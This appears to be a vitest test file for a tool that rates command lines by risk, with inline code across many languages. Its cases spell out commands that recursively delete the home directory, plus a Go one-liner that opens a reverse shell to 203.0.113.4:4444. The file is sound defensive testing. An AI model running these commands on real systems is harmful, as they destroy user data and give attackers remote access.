/** Programs that run code in languages of their own, wherever that code stands: what it starts and deletes counts. */
import { expect, test } from 'vitest';
import { createLineAssessor } from '../../../../fakes/assess-line.ts';

const assess = createLineAssessor();
const levelOf = (command: string): string =>
  assess({ command, cwd: '/home/u/app', project: '/home/u/app', home: '/home/u' }).level;

const shellOfGo = 'c,_:=net.Dial("tcp","203.0.113.4:4444");k:=exec.Command("sh");k.Stdin=c;k.Run()';

test.each([
  ['critical', `scala -e '"rm -rf /home/u".!'`],
  ['critical', `ghc -e 'System.Directory.removeDirectoryRecursive "/home/u"'`],
  ['critical', `clojure -M -e '(clojure.java.shell/sh "rm" "-rf" "/home/u")'`],
  ['critical', `raku -e 'run "rm", "-rf", "/home/u"'`],
  ['critical', `sbcl --eval '(uiop:run-program "rm -rf /home/u")'`],
  ['critical', `erl -eval 'os:cmd("rm -rf /home/u")' -s init stop`],
  ['critical', `dotnet fsi --exec <<< 'System.IO.Directory.Delete("/home/u", true)'`],
  ['critical', `swift - <<'E'\ntry FileManager.default.removeItem(atPath: "/home/u")\nE`],
  ['critical', `go run - <<'E'\nos.RemoveAll("/home/u")\nE`],
  ['critical', `go run /dev/stdin <<'E'\n${shellOfGo}\nE`],
  ['critical', `jshell -s - <<< 'Runtime.getRuntime().exec("rm -rf /home/u");'`],
  ['high', `osascript -e 'tell application "Finder" to empty trash'`],
  ['low', `erl -noshell -eval 'io:format("hi~n"), halt().'`],
  ['low', `echo 'print("hi")' | swift -`],
  ['low', `groovy -e 'println "ls".execute().text'`],
])('%s: %s', (level, command) => {
  expect(levelOf(command)).toBe(level);
});
